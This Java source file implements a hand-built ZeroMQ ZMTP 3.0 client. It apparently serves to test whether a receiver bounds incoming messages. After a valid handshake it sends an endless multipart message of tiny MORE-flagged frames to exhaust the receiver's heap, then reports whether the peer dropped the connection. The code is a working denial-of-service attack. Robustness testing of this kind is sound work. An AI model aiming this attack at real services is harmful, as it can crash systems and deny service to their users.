package org.funcx.cli;

import java.io.DataInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;

/**
 * A stranger on a ZeroMQ port, speaking ZMTP 3.0 by hand over a raw TCP socket: the NULL
 * mechanism's greeting and READY (as a DEALER), then one multipart message that never ends, small
 * frames each under the frame bound with the MORE flag always set. ZeroMQ delivers a message only
 * once its last frame arrives, so a receiver that lets this through buffers every frame until its
 * heap is full. Writes until the peer drops the connection or {@code budgetBytes} are written.
 */
final class EndlessMultipartAttacker {
  /** Small frames: each costs the receiver a message object far larger than its 10 wire bytes. */
  private static final int FRAME_DATA_BYTES = 8;

  private static final int FRAMES_PER_WRITE = 8_192;

  private EndlessMultipartAttacker() {}

  /**
   * What the attack came to: bytes and frames of the endless message written (frames only once
   * the handshake was done), and whether the peer dropped the connection.
   */
  record Outcome(long bytesWritten, long framesWritten, boolean dropped, String how) {}

  static Outcome attack(String tcpAddress, long budgetBytes) throws IOException {
    String hostPort = tcpAddress.substring("tcp://".length());
    int colon = hostPort.lastIndexOf(':');
    long written = 0;
    long frames = 0;
    try (Socket socket = new Socket()) {
      socket.connect(
          new InetSocketAddress(
              hostPort.substring(0, colon), Integer.parseInt(hostPort.substring(colon + 1))),
          5_000);
      socket.setSoTimeout(5_000);
      OutputStream out = socket.getOutputStream();
      try {
        out.write(greeting());
        out.write(ready());
        written += 64 + ready().length;
        // As a real peer: no message before the other side's READY, which ends the handshake.
        readGreetingAndReady(new DataInputStream(socket.getInputStream()));
        byte[] batch = endlessFrames();
        while (written < budgetBytes) {
          out.write(batch);
          written += batch.length;
          frames += FRAMES_PER_WRITE;
        }
        return new Outcome(written, frames, false, "budget spent");
      } catch (IOException e) {
        return new Outcome(written, frames, true, e.toString());
      }
    }
  }

  private static void readGreetingAndReady(DataInputStream in) throws IOException {
    in.readFully(new byte[64]);
    int flags = in.readUnsignedByte();
    long size = (flags & 0x02) != 0 ? in.readLong() : in.readUnsignedByte();
    in.readFully(new byte[(int) size]);
  }

  /** ZMTP 3.0 greeting: signature, version 3.0, mechanism NULL, as-server 0, filler. */
  private static byte[] greeting() {
    byte[] g = new byte[64];
    g[0] = (byte) 0xFF;
    g[9] = 0x7F;
    g[10] = 3;
    g[11] = 0;
    byte[] mechanism = "NULL".getBytes(StandardCharsets.US_ASCII);
    System.arraycopy(mechanism, 0, g, 12, mechanism.length);
    return g;
  }

  /** READY command with Socket-Type DEALER. */
  private static byte[] ready() {
    byte[] name = "READY".getBytes(StandardCharsets.US_ASCII);
    byte[] key = "Socket-Type".getBytes(StandardCharsets.US_ASCII);
    byte[] value = "DEALER".getBytes(StandardCharsets.US_ASCII);
    int body = 1 + name.length + 1 + key.length + 4 + value.length;
    byte[] c = new byte[2 + body];
    int i = 0;
    c[i++] = 0x04; // command, short
    c[i++] = (byte) body;
    c[i++] = (byte) name.length;
    System.arraycopy(name, 0, c, i, name.length);
    i += name.length;
    c[i++] = (byte) key.length;
    System.arraycopy(key, 0, c, i, key.length);
    i += key.length;
    c[i++] = 0;
    c[i++] = 0;
    c[i++] = 0;
    c[i++] = (byte) value.length;
    System.arraycopy(value, 0, c, i, value.length);
    return c;
  }

  /** Frames with the MORE flag and a short size, {@link #FRAME_DATA_BYTES} of data each. */
  private static byte[] endlessFrames() {
    int frame = 2 + FRAME_DATA_BYTES;
    byte[] b = new byte[frame * FRAMES_PER_WRITE];
    for (int f = 0; f < FRAMES_PER_WRITE; f++) {
      b[f * frame] = 0x01; // MORE
      b[f * frame + 1] = FRAME_DATA_BYTES;
    }
    return b;
  }
}
